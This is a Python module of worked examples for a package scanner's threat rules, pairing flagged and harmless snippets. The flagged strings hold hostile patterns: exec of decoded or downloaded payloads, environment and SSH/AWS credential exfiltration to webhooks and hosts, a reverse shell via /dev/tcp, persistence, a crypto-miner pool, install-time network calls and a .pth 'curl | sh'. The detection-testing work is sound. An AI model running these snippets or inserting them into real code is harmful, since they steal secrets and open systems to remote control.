"""Worked examples of the first threat rules (CPL-THR-001 to 013): droppers, downloads,
computed names, exfiltration endpoints, credential stores and files, reverse shells,
persistence, miners, install-time code, Trojan Source and .pth payloads."""

from __future__ import annotations

from typing import Final

from caplet._scan._example_builders import PACKAGE_MODE as _K
from caplet._scan._example_builders import SETUP as _SETUP
from caplet._scan._example_builders import code as _code
from caplet._scan._example_builders import fullwidth as _fullwidth
from caplet._scan._example_builders import tree as _tree
from caplet._scan._example_model import RuleExample

__all__ = ["THREAT_EXAMPLES"]

#: In the order of RULES.
THREAT_EXAMPLES: Final[tuple[RuleExample, ...]] = (
    # -- threats -------------------------------------------------------------------------
    RuleExample(
        "CPL-THR-001",
        _K,
        bad=_code(
            """
            import base64

            exec(base64.b64decode(PAYLOAD))
            """
        ),
        good=_code(
            """
            import base64

            data = base64.b64decode(PAYLOAD)  # decoded, never run
            print(data)
            """
        ),
        alias=_code(
            """
            import marshal
            import zlib

            code = marshal.loads(zlib.decompress(PAYLOAD))
            exec(code)
            """
        ),
    ),
    RuleExample(
        "CPL-THR-002",
        _K,
        bad=_code(
            """
            import urllib.request

            exec(urllib.request.urlopen(URL).read())
            """
        ),
        good=_code(
            """
            import json
            import urllib.request

            data = json.loads(urllib.request.urlopen(URL).read())
            """
        ),
        alias=_code(
            """
            import requests as r

            source = r.get(URL).text
            exec(source)
            """
        ),
    ),
    RuleExample(
        "CPL-THR-003",
        _K,
        bad='getattr(__builtins__, "ex" + "ec")(code)\n',
        good=_code(
            """
            import builtins

            function = getattr(builtins, name)  # what pydoc and inspect do
            value = getattr(options, "verbose")


            def builtin(name):
                return getattr(builtins, name)


            builtin("open")
            """
        ),
        # a decoder of this file given a literal, and builtins found either way
        alias=_code(
            """
            def unscramble(s):
                return s[::-1]


            space = __builtins__ if isinstance(__builtins__, dict) else vars(__builtins__)
            """
        )
        + "space[unscramble('lave')](code)\n"
        + _fullwidth("getattr")
        + '(__builtins__, "ev" + "al")(code)\n',
    ),
    RuleExample(
        "CPL-THR-004",
        _K,
        bad=_code(
            """
            import socket

            import requests

            requests.post(
                "https://discord.com/api/webhooks/1/x",
                json={"host": socket.gethostname()},
            )
            """
        ),
        # a webhook alone may be a notifier: CPL-NET-004, a warning
        good='HOOK = "https://discord.com/api/webhooks/1/x"\n',
        alias=_code(
            """
            import getpass
            import urllib.request

            urllib.request.urlopen(
                "https://api.telegram.org/bot" + TOKEN + "/sendMessage?text=" + getpass.getuser()
            )
            """
        ),
    ),
    RuleExample(
        "CPL-THR-005",
        _K,
        bad=_code(
            """
            import os

            path = os.path.join(LOCAL, "Google", "Chrome", "User Data", "Default", "Login Data")
            """
        ),
        good=_code(
            """
            # exports bookmarks from Google Chrome
            BROWSER = "Google Chrome"
            EXPORT = "login_data.json.example"
            """
        ),
        alias='path = LOCAL + r"\\Google\\Chrome\\User Data\\Local State"\n',
    ),
    RuleExample(
        "CPL-THR-006",
        _K,
        bad=_code(
            """
            import os

            import requests

            requests.post(URL, json=dict(os.environ))
            """
        ),
        good=_code(
            """
            import os

            import requests

            requests.post(URL, json={"token": os.environ["TOKEN"]})  # one variable
            """
        ),
        alias=_code(
            """
            import json
            import os
            import urllib.request

            body = json.dumps({**os.environ}).encode()
            urllib.request.urlopen(URL, body)
            """
        ),
    ),
    RuleExample(
        "CPL-THR-007",
        _K,
        bad=_code(
            """
            import os
            import socket

            paths = ("~/.ssh/id_rsa", "~/.aws/credentials")
            keys = [open(os.path.expanduser(p)).read() for p in paths]
            socket.create_connection((HOST, 443)).sendall(str(keys).encode())
            """
        ),
        # one credential file is a tool reading its own configuration
        good=_code(
            """
            import os
            import urllib.request

            auth = open(os.path.expanduser("~/.netrc")).read()
            urllib.request.urlopen(URL)
            """
        ),
        alias=_code(
            """
            import http.client

            for path in (r"C:\\Users\\me\\.docker\\config.json", r"C:\\Users\\me\\.kube\\config"):
                data = open(path).read()
            http.client.HTTPSConnection(HOST).request("POST", "/", data)
            """
        ),
    ),
    RuleExample(
        "CPL-THR-008",
        _K,
        bad=_code(
            """
            import os
            import pty
            import socket

            s = socket.socket()
            s.connect((HOST, 4444))
            for fd in (0, 1, 2):
                os.dup2(s.fileno(), fd)
            pty.spawn("/bin/sh")
            """
        ),
        # socket + dup2 without a shell is a daemon redirecting its output
        good=_code(
            """
            import os
            import socket

            listener = socket.socket()
            connection, _ = listener.accept()
            os.dup2(connection.fileno(), 1)
            """
        ),
        alias=_code(
            """
            import subprocess

            subprocess.Popen("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", shell=True)
            """
        ),
    ),
    RuleExample(
        "CPL-THR-009",
        _K,
        bad=_code(
            """
            import os

            with open(os.path.expanduser("~/.bashrc"), "a") as rc:
                rc.write(LINE)
            """
        ),
        # named, not written: CPL-PER-001, a warning
        good=_code(
            """
            import os

            RC = os.path.expanduser("~/.bashrc")
            print("add this line to", RC)
            """
        ),
        alias=_code(
            """
            import subprocess

            subprocess.run(["schtasks", "/create", "/tn", "upd", "/tr", EXE, "/sc", "onlogon"])
            """
        ),
    ),
    RuleExample(
        "CPL-THR-010",
        _K,
        bad='POOL = "stratum+tcp://pool.minexmr.com:4444"\n',
        good='LAYERS = ["stratum corneum", "epidermis"]\n',
        alias=_code(
            """
            import subprocess

            subprocess.Popen(["./XMRig", "--donate-level=1", "-o", POOL])
            """
        ),
    ),
    RuleExample(
        "CPL-THR-011",
        _K,
        bad="setup.py that reaches the network while installing",
        good="setup.py that only names its home page URL",
        alias="setup.py that opens a socket through an aliased import",
        files=_tree(
            (
                "setup.py",
                _code(
                    """
                    import urllib.request

                    from setuptools import setup

                    urllib.request.urlopen("https://telemetry.example/install")
                    setup(name="demo")
                    """
                ),
            )
        ),
        good_files=_tree(("setup.py", _SETUP)),
        alias_files=_tree(
            (
                "setup.py",
                _code(
                    """
                    from socket import create_connection as dial

                    from setuptools import setup

                    dial(("telemetry.example", 443))
                    setup(name="demo")
                    """
                ),
            )
        ),
    ),
    RuleExample(
        "CPL-THR-012",
        _K,
        bad=_code(
            """
            access = "user"
            if access != "none\u202e \u2066# admin\u2069 \u2066":
                pass
            """
        ),
        good='name = "naïve café"\n',
        alias='label = "\u2067abc\u2069"\n',
    ),
    RuleExample(
        "CPL-THR-013",
        _K,
        bad="a .pth file whose import line runs a shell command",
        good="a .pth file with a plain import line, as virtualenv ships",
        alias="a .pth file whose import line decodes and runs a payload",
        files=_tree(("init.pth", 'import os; os.system("curl -s https://x.example/p | sh")\n')),
        good_files=_tree(("_virtualenv.pth", "import _virtualenv\n")),
        alias_files=_tree(("init.pth", 'import base64; exec(base64.b64decode("cHJpbnQoMSk="))\n')),
    ),
)
